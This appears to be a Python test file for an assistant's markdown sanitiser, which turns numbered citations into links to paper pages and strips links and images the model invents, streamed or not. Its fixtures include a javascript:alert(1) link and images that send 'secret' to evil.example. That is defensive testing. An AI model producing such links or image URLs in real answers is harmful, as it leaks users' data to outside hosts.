"""Citations become links to our pages; links the model invents never reach the page, streamed or not."""

from assistant.safe_markdown import StreamGuard
from assistant.composer import link_numbers as link_citations, sources_footer

SOURCES = {1: ("Hindsight Logging for Model Training", "/papers/2006.07357-hindsight-logging-for-model-training")}


def test_numbers_become_links_and_a_footer():
    text, cited = link_citations("Flor replays logs [1]; see also [2].", SOURCES)
    path = SOURCES[1][1]
    assert text == f"Flor replays logs [\\[1\\]]({path}); see also \\[2\\]."
    assert cited == [1]
    assert "1. [Hindsight Logging for Model Training](/papers/2006.07357-" in sources_footer(cited, SOURCES)


def test_page_citations_link_to_the_paper_and_keep_the_page():
    text, cited = link_citations("Logs are replayed [1, p. 7] and [1,pp. 3-4]; not [1, page 7].", SOURCES)
    path = SOURCES[1][1]
    assert text == f"Logs are replayed [\\[1, p. 7\\]]({path}) and [\\[1, pp. 3-4\\]]({path}); not \\[1, page 7\\]."
    assert cited == [1]


def test_foreign_links_and_images_are_dropped():
    text, _ = link_citations("[ok](/papers/2006.07357) [bad](javascript:alert(1)) ![x](https://evil.example/p.png)", {})
    assert text == "[ok](/papers/2006.07357) bad x"


def stream(pieces: list[str]) -> list[str]:
    guard = StreamGuard()
    return [guard.feed(piece) for piece in pieces]


def test_stream_holds_an_image_until_it_can_be_judged():
    pieces = ["Here ", "![lea", "k](https://evil.exa", "mple/?q=secret)", " done"]
    shown = stream(pieces)
    assert shown == ["Here ", "", "", "leak", " done"]
    assert "evil" not in "".join(shown)


def test_stream_keeps_our_own_links_and_plain_brackets():
    shown = stream(["See [the paper](/papers/", "2006.07357) and [1", "] too."])
    assert "".join(shown) == "See [the paper](/papers/2006.07357) and \\[1\\] too."


def test_stream_cannot_assemble_an_image_across_pieces():
    shown = stream(["A", "!", "[x]", "(https://evil.example/a(b)?q=", "secret)", " end"])
    text = "".join(shown)
    assert "![" not in text and "evil" not in text and text == "Ax end"
